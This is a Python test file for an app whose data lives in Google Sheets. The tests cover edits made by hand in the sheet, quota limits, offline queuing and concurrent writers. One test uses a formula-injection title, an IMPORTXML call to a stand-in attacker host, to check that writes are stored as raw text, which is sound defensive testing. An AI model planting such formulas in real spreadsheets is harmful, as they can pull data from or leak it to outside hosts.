"""The Google Sheets store against the offline fake, through the real gspread client: what only a sheet does —
people editing it directly, quota (429), going offline, two app instances, columns people add."""

import threading

import pytest
from sqlmodel import select

from cxos.errors import StaleWrite
from cxos.journey.map import load_journey_template, touchpoint_options
from cxos.models import Event, Signal, Team
from cxos.signals.writes import update_signal
from cxos.store.sheets.api import connect
from cxos.store.sheets.fake_api import FakeSheetsServer
from cxos.store.sheets.store import _parse
from tests.conftest import ADMIN, CONTRIBUTOR, open_fake_sheets_store, table_checksums
from tests.factories import log_signal

SHEET = "book"


class Clock:
    def __init__(self):
        self.now = 1000.0

    def __call__(self) -> float:
        return self.now


@pytest.fixture
def clock() -> Clock:
    return Clock()


@pytest.fixture
def server(clock) -> FakeSheetsServer:
    fake = FakeSheetsServer(clock=clock)
    fake.create_spreadsheet(SHEET)
    return fake


@pytest.fixture
def sheet_store(server, sheets_key, tmp_path):
    store = open_fake_sheets_store(server, sheets_key, tmp_path / "a.db", SHEET, ttl_s=3600)
    load_journey_template(store, actor=ADMIN)
    yield store
    store.dispose()


def _touchpoint(store) -> int:
    with store.read() as session:
        return touchpoint_options(session)[0].id


def _sheet_rows(server, title: str) -> list[dict]:
    rows = server.rows(SHEET, title)
    header = rows[0]
    return [dict(zip(header, row, strict=False)) for row in rows[1:]]


def _signal_row(server, signal_id: int) -> tuple[int, dict]:
    rows = server.rows(SHEET, "signal")
    number = next(n for n, row in enumerate(rows, start=1) if row and row[0] == signal_id)
    return number, dict(zip(rows[0], rows[number - 1], strict=False))


def test_a_logged_signal_lands_in_its_worksheet_with_its_event(sheet_store, server):
    signal = log_signal(sheet_store, touchpoint_id=_touchpoint(sheet_store))
    _, row = _signal_row(server, signal.id)
    assert row["title"] == "SSO users missing after sync" and row["created_by"] == CONTRIBUTOR.name
    events = [
        e for e in _sheet_rows(server, "event") if e["entity"] == "signal" and e["entity_id"] == signal.id
    ]
    assert [e["action"] for e in events] == ["created"]


def test_text_that_looks_like_a_formula_is_stored_as_text_and_every_write_is_raw(sheet_store, server):
    signal = log_signal(
        sheet_store, touchpoint_id=_touchpoint(sheet_store), title='=IMPORTXML("https://evil.example", "//a")'
    )
    _, row = _signal_row(server, signal.id)
    assert row["title"] == '=IMPORTXML("https://evil.example", "//a")'
    appends = [r for r in server.log if r.path.endswith(":append")]
    assert appends and all(r.params["valueInputOption"] == ["RAW"] for r in appends)
    assert all(r.params["insertDataOption"] == ["INSERT_ROWS"] for r in appends)


def test_a_row_changed_in_the_sheet_refuses_the_stale_update_and_keeps_the_sheets_version(
    sheet_store, server
):
    signal = log_signal(sheet_store, touchpoint_id=_touchpoint(sheet_store))
    number, row = _signal_row(server, signal.id)
    title_col = server.rows(SHEET, "signal")[0].index("title") + 1
    server.set_cell(SHEET, "signal", number, title_col, "Edited by hand in the sheet")  # a person, in Sheets
    with pytest.raises(StaleWrite, match=r"changed in the sheet .*row \d+ of 'signal'"):
        update_signal(
            sheet_store,
            signal_id=signal.id,
            expected_version=1,
            changes={"title": "The app's edit"},
            actor=CONTRIBUTOR,
        )
    assert _signal_row(server, signal.id)[1]["title"] == "Edited by hand in the sheet"  # not overwritten
    with sheet_store.read() as session:  # the app now shows the sheet's version
        assert session.get(Signal, signal.id).title == "Edited by hand in the sheet"
    refused = [e for e in _sheet_rows(server, "event") if e["action"] == "refused"]
    assert len(refused) == 1 and refused[0]["entity_id"] == signal.id


def test_an_update_after_a_fresh_read_goes_through(sheet_store, server):
    signal = log_signal(sheet_store, touchpoint_id=_touchpoint(sheet_store))
    number, _ = _signal_row(server, signal.id)
    server.set_cell(SHEET, "signal", number, server.rows(SHEET, "signal")[0].index("account") + 1, "Acme")
    sheet_store.refresh(force=True)
    updated = update_signal(
        sheet_store, signal_id=signal.id, expected_version=1, changes={"title": "Renamed"}, actor=CONTRIBUTOR
    )
    row = _signal_row(server, signal.id)[1]
    assert (row["title"], row["account"], row["version"]) == ("Renamed", "Acme", 2) and updated.version == 2


def test_quota_exhausted_the_write_is_kept_and_queued_then_sent(sheet_store, server):
    sleeps = []
    sheet_store.api.sleep = sleeps.append
    server.fail_next(3, 429)  # the first attempt and both retries
    # acknowledged: stored in the working copy
    signal = log_signal(sheet_store, touchpoint_id=_touchpoint(sheet_store))
    assert sleeps == [1.0, 2.0]  # backed off before giving up
    assert sheet_store.status.queued >= 2 and "quota" in sheet_store.status.problem
    assert signal.id not in [r["id"] for r in _sheet_rows(server, "signal")]
    with sheet_store.read() as session:
        assert session.get(Signal, signal.id) is not None
    sheet_store.refresh(force=True)
    assert sheet_store.status.queued == 0 and sheet_store.status.reachable
    assert signal.id in [r["id"] for r in _sheet_rows(server, "signal")]


def test_sixty_writes_a_minute_the_sixty_first_change_waits_for_the_next_minute(
    sheet_store, server, clock, sheets_key, tmp_path
):
    writes_before = server.count("write")
    for number in range(60 - writes_before % 60 + 5):
        log_signal(sheet_store, touchpoint_id=_touchpoint(sheet_store), title=f"Quota probe {number}")
    assert sheet_store.status.queued > 0  # Google's per-minute limit reached: later changes wait, none lost
    clock.now += 61
    sheet_store.refresh(force=True)
    assert sheet_store.status.queued == 0
    assert table_checksums(sheet_store) == table_checksums(
        open_fake_sheets_store(server, sheets_key, tmp_path / "check.db", SHEET)
    )


def test_offline_the_app_reads_its_copy_and_queues_writes_until_sheets_answers(sheet_store, server):
    first = log_signal(sheet_store, touchpoint_id=_touchpoint(sheet_store))
    server.offline = True
    status = sheet_store.refresh(force=True)
    assert not status.reachable and "cannot be reached" in status.problem
    with sheet_store.read() as session:  # still readable from the copy
        assert session.get(Signal, first.id).title == first.title
    second = log_signal(sheet_store, touchpoint_id=_touchpoint(sheet_store), title="Logged while offline")
    assert sheet_store.status.queued >= 2
    server.offline = False
    sheet_store.refresh(force=True)
    assert sheet_store.status.reachable and sheet_store.status.queued == 0
    assert second.id in [r["id"] for r in _sheet_rows(server, "signal")]


def test_two_app_instances_adding_at_once_lose_nothing(server, sheets_key, tmp_path):
    one = open_fake_sheets_store(server, sheets_key, tmp_path / "one.db", SHEET, ttl_s=3600)
    load_journey_template(one, actor=ADMIN)
    two = open_fake_sheets_store(server, sheets_key, tmp_path / "two.db", SHEET, ttl_s=3600)
    log_signal(one, touchpoint_id=_touchpoint(one), title="Logged on instance one")
    # Instance two has not re-read the sheet, so it picks the same next id: the sheet tells it so.
    with pytest.raises(StaleWrite, match="also added to the sheet by someone else"):
        log_signal(two, touchpoint_id=_touchpoint(two), title="Logged on instance two")
    again = log_signal(
        two, touchpoint_id=_touchpoint(two), title="Logged on instance two"
    )  # the retry reads the sheet first
    titles = sorted(r["title"] for r in _sheet_rows(server, "signal"))
    assert titles == ["Logged on instance one", "Logged on instance two"] and again.id == 2


def test_concurrent_appends_through_two_clients_never_overwrite_each_other(server, sheets_key):
    server.quota_per_minute = 1_000  # this test is about two writers at once, not the quota
    clients = [connect(SHEET, sheets_key, transport=server) for _ in range(2)]
    clients[0].add_worksheets(["log"], columns=3)
    clients[0].update([("'log'!A1:C1", [["id", "who", "n"]])])
    barrier = threading.Barrier(2)

    def append_many(index: int) -> None:
        barrier.wait()
        for n in range(40):
            clients[index].append("log", [[f"{index}-{n}", f"client {index}", n]])

    threads = [threading.Thread(target=append_many, args=(i,)) for i in range(2)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    rows = server.rows(SHEET, "log")[1:]
    assert len(rows) == 80 and sorted(row[0] for row in rows) == sorted(
        f"{i}-{n}" for i in range(2) for n in range(40)
    )


def test_a_column_a_person_adds_to_a_worksheet_survives_the_apps_updates(sheet_store, server):
    signal = log_signal(sheet_store, touchpoint_id=_touchpoint(sheet_store))
    header = server.rows(SHEET, "signal")[0]
    notes_col = len(header) + 1
    server.spreadsheets[SHEET]["signal"].column_count += 1  # the person inserts a column at the end
    server.set_cell(SHEET, "signal", 1, notes_col, "Our notes")
    number, _ = _signal_row(server, signal.id)
    server.set_cell(SHEET, "signal", number, notes_col, "call them Tuesday")
    sheet_store.refresh(force=True)
    update_signal(
        sheet_store, signal_id=signal.id, expected_version=1, changes={"title": "Renamed"}, actor=CONTRIBUTOR
    )
    _, row = _signal_row(server, signal.id)
    assert (row["title"], row["Our notes"]) == ("Renamed", "call them Tuesday")


def test_a_deleted_record_keeps_its_row_so_no_other_row_moves(sheet_store, server):
    with sheet_store.write() as session:
        session.add(Team(name="Temporary team", created_by=ADMIN.name, updated_by=ADMIN.name))
    before = server.rows(SHEET, "team")
    with sheet_store.write() as session:
        session.delete(session.exec(select(Team).where(Team.name == "Temporary team")).one())
    after = server.rows(SHEET, "team")
    assert len(after) == len(before) and after[:-1] == before[:-1] and after[-1][0].startswith("deleted ")
    sheet_store.refresh(force=True)
    with sheet_store.read() as session:
        assert session.exec(select(Team).where(Team.name == "Temporary team")).first() is None


def test_rows_a_person_broke_are_reported_by_row_number_not_silently_dropped(sheet_store, server):
    signal = log_signal(sheet_store, touchpoint_id=_touchpoint(sheet_store))
    number, _ = _signal_row(server, signal.id)
    server.set_cell(
        SHEET, "signal", number, server.rows(SHEET, "signal")[0].index("touchpoint_id") + 1, "abc"
    )
    server.set_cell(SHEET, "signal", number + 3, 2, "a row without an id")
    status = sheet_store.refresh(force=True)
    assert any(f"signal row {number}: column touchpoint_id" in why for why in status.unreadable)
    assert any(f"signal row {number + 3}: the id cell is empty" in why for why in status.unreadable)


def test_every_request_is_signed_with_the_service_accounts_token(sheet_store, server):
    assert server.count("token") >= 1
    import requests

    session = requests.Session()
    server.install(session)
    refused = session.get(
        f"https://sheets.googleapis.com/v4/spreadsheets/{SHEET}",
        headers={"Authorization": "Bearer not-a-token"},
    )
    assert refused.status_code == 401


def test_a_too_long_value_is_refused_before_anything_is_sent(sheet_store, server):
    from cxos.store.sheets.layout import CellTooLong

    writes = server.count("write")
    with pytest.raises(CellTooLong, match="at most 50,000"):
        with sheet_store.write() as session:
            session.add(Event(actor="x", entity="signal", entity_id=1, action="note", note="x" * 50_001))
    assert server.count("write") == writes and sheet_store.status.queued == 0


@pytest.mark.parametrize(
    "url, expected",
    [
        ("gsheets://1AbC_d-9", ("1AbC_d-9", False)),
        ("https://docs.google.com/spreadsheets/d/1AbC_d-9/edit#gid=0", ("1AbC_d-9", False)),
        ("gsheets+fake://demo?cache=/tmp/x.db", ("demo", True)),
    ],
)
def test_sheet_addresses_people_paste_are_understood(url, expected):
    spreadsheet_id, fake, _ = _parse(url)
    assert (spreadsheet_id, fake) == expected


def test_a_bulk_triage_is_one_batch_of_requests_and_a_conflict_in_it_is_set_aside(sheet_store, server):
    from cxos.council.triage import bulk_triage

    made = [
        log_signal(sheet_store, touchpoint_id=_touchpoint(sheet_store), title=f"Bulk {n}") for n in range(20)
    ]
    number, _ = _signal_row(server, made[0].id)
    server.set_cell(
        SHEET, "signal", number, server.rows(SHEET, "signal")[0].index("account") + 1, "Typed in Sheets"
    )
    before = len(server.log)
    result = bulk_triage(
        sheet_store, items=[(s.id, s.version) for s in made], action="correct", team_id=2, actor=ADMIN
    )
    assert len(result.done) == 20
    assert [r.kind for r in server.log[before:]] == [
        "read",
        "write",
        "write",
    ]  # re-read, update, append events
    assert sheet_store.status.conflicts == 1  # the row typed into: the sheet keeps it, ours is set aside
    assert _signal_row(server, made[0].id)[1]["account"] == "Typed in Sheets"
    with sheet_store.engine.connect() as connection:
        assert connection.exec_driver_sql("SELECT tbl, row_id FROM _sheet_conflicts").all() == [
            ("signal", made[0].id)
        ]
    assert {_signal_row(server, s.id)[1]["owner_team_id"] for s in made[1:]} == {2}


def test_rows_sorted_in_the_sheet_are_found_by_id_and_the_right_row_is_updated(
    sheet_store, server, sheets_key, tmp_path
):
    made = [
        log_signal(sheet_store, touchpoint_id=_touchpoint(sheet_store), title=f"Signal {n}") for n in range(5)
    ]
    worksheet = server.spreadsheets[SHEET]["signal"]
    worksheet.rows[1:] = list(reversed(worksheet.rows[1:]))  # a person sorts the sheet, newest first
    update_signal(
        sheet_store, signal_id=made[1].id, expected_version=1, changes={"title": "Renamed"}, actor=CONTRIBUTOR
    )
    titles = {row["id"]: row["title"] for row in _sheet_rows(server, "signal")}
    assert titles == {s.id: ("Renamed" if s.id == made[1].id else s.title) for s in made}
    sheet_store.refresh()  # the row numbers it knew are stale now: it re-reads the sheet
    assert table_checksums(sheet_store) == table_checksums(
        open_fake_sheets_store(server, sheets_key, tmp_path / "check.db", SHEET)
    )


def test_a_row_a_person_deleted_from_the_sheet_refuses_the_update(sheet_store, server):
    made = [
        log_signal(sheet_store, touchpoint_id=_touchpoint(sheet_store), title=f"Signal {n}") for n in range(3)
    ]
    number, _ = _signal_row(server, made[0].id)
    del server.spreadsheets[SHEET]["signal"].rows[number - 1]
    with pytest.raises(StaleWrite, match="removed from the 'signal' sheet"):
        update_signal(
            sheet_store,
            signal_id=made[0].id,
            expected_version=1,
            changes={"title": "Renamed"},
            actor=CONTRIBUTOR,
        )
    update_signal(
        sheet_store,
        signal_id=made[2].id,
        expected_version=1,
        changes={"title": "Still works"},
        actor=CONTRIBUTOR,
    )
    assert _signal_row(server, made[2].id)[1]["title"] == "Still works"


def test_a_newer_version_with_more_columns_widens_the_worksheet_grid_and_header(server, sheets_key, tmp_path):
    first = open_fake_sheets_store(server, sheets_key, tmp_path / "one.db", SHEET)
    load_journey_template(first, actor=ADMIN)
    worksheet = server.spreadsheets[SHEET]["team"]
    archived_col = worksheet.rows[0].index("archived")
    for row in worksheet.rows:  # as if the sheet were made by a version without the "archived" column
        del row[archived_col]
    worksheet.column_count = len(worksheet.rows[0])
    again = open_fake_sheets_store(server, sheets_key, tmp_path / "two.db", SHEET)
    assert worksheet.rows[0][-1] == "archived" and worksheet.column_count == len(worksheet.rows[0])
    assert again.status.reachable and again.status.unreadable == []
    with again.read() as session:
        assert {team.archived for team in session.exec(select(Team))} == {False}


def test_a_sheet_that_breaks_a_database_rule_is_reported_and_the_last_good_copy_stays(sheet_store, server):
    with sheet_store.read() as session:
        teams_before = len(session.exec(select(Team)).all())
    name_col = server.rows(SHEET, "team")[0].index("name") + 1
    server.set_cell(
        SHEET, "team", 3, name_col, server.rows(SHEET, "team")[1][name_col - 1]
    )  # two teams, one name
    status = sheet_store.refresh(force=True)
    assert "could not be loaded" in status.problem and "team" in status.problem
    with sheet_store.read() as session:
        assert len(session.exec(select(Team)).all()) == teams_before


def test_changes_queued_when_the_app_stopped_are_sent_when_it_starts_again(
    sheet_store, server, sheets_key, tmp_path
):
    server.offline = True
    sheet_store.refresh(force=True)
    queued = log_signal(
        sheet_store, touchpoint_id=_touchpoint(sheet_store), title="Logged just before a restart"
    )
    assert sheet_store.status.queued > 0
    sheet_store.dispose()
    server.offline = False
    restarted = open_fake_sheets_store(server, sheets_key, tmp_path / "a.db", SHEET)  # the same working copy
    assert restarted.status.queued == 0
    assert queued.id in [r["id"] for r in _sheet_rows(server, "signal")]
    with restarted.read() as session:
        assert session.get(Signal, queued.id).title == "Logged just before a restart"


def test_a_sign_in_google_refuses_or_cannot_answer_is_a_clear_status_not_a_crash(sheet_store, server):
    from datetime import datetime

    credentials = sheet_store.api.http.session.credentials
    credentials.token, credentials.expiry = None, datetime(2000, 1, 1)  # the token must be fetched again
    server.offline = True  # the token endpoint is unreachable too
    status = sheet_store.refresh(force=True)
    assert not status.reachable and "cannot be reached" in status.problem
    server.offline = False
    server.fail_token_with = 400
    status = sheet_store.refresh(force=True)
    assert "refused the service account's sign-in" in status.problem


@pytest.mark.parametrize("typed", ["inf", "nan", "1e400", "seven"])
def test_whatever_a_person_types_into_an_id_cell_is_reported_not_a_crash(sheet_store, server, typed):
    signal = log_signal(sheet_store, touchpoint_id=_touchpoint(sheet_store))
    number, _ = _signal_row(server, signal.id)
    server.set_cell(SHEET, "signal", number, 1, typed)
    status = sheet_store.refresh(force=True)
    assert any(why.startswith(f"signal row {number}:") for why in status.unreadable)


def test_any_cell_a_person_types_into_a_row_loads_or_is_reported_never_crashes(sheet_store, server):
    from hypothesis import HealthCheck, given, settings
    from hypothesis import strategies as st

    signal = log_signal(sheet_store, touchpoint_id=_touchpoint(sheet_store))
    number, _ = _signal_row(server, signal.id)
    header = server.rows(SHEET, "signal")[0]
    cell = st.one_of(st.text(max_size=30), st.integers(), st.floats(allow_nan=True), st.booleans(), st.none())

    @settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
    @given(column=st.sampled_from(header[1:]), value=cell)
    def typed_into_the_sheet(column, value):
        server.set_cell(SHEET, "signal", number, header.index(column) + 1, value)
        status = sheet_store.refresh(force=True)
        with sheet_store.read() as session:
            loaded = session.get(Signal, signal.id) is not None
        reported = any(why.startswith(f"signal row {number}:") for why in status.unreadable)
        assert loaded != reported or (not loaded and "could not be loaded" in status.problem)

    typed_into_the_sheet()


def test_a_refusal_before_anything_is_sent_refuses_the_write_and_after_keeps_and_queues_it(
    sheet_store, server
):
    from cxos.store.sheets.api import SheetsRefused

    server.fail_next(1, 403)  # the check read: nothing sent yet
    with pytest.raises(SheetsRefused, match="403"):
        log_signal(sheet_store, touchpoint_id=_touchpoint(sheet_store), title="Refused outright")
    with sheet_store.read() as session:
        assert session.exec(select(Signal).where(Signal.title == "Refused outright")).first() is None
    real_append = sheet_store.api.append
    calls = []

    def refuse_second_append(title, rows):
        calls.append(title)
        if len(calls) == 2:
            server.fail_next(1, 403)
        return real_append(title, rows)

    sheet_store.api.append = refuse_second_append  # the event row lands, then the signal row is refused
    signal = log_signal(sheet_store, touchpoint_id=_touchpoint(sheet_store), title="Half sent")
    assert sheet_store.status.queued == 1 and "403" in sheet_store.status.problem
    sheet_store.api.append = real_append
    sheet_store.refresh(force=True)
    assert sheet_store.status.queued == 0 and signal.id in [r["id"] for r in _sheet_rows(server, "signal")]
